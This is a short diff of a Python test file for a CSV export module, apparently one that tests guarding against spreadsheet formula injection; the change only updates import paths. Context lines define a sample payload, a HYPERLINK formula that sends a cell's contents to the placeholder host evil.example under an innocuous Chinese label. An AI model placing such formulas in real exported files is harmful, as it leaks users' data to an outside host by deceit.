@@ -16,8 +16,8 @@ import pytest
 from storage.database import open_database
 from tests.zhengce.holding import hold, invented
 from zhengce.cli.program import main
-from zhengce.tables.export import rows
-from zhengce.tables.export.csv_table import guarded, unguarded, write_csv
+from zhengce.tables import rows
+from zhengce.tables.csv_table import guarded, unguarded, write_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"关于数据的通知")'
 FORMULAS = (
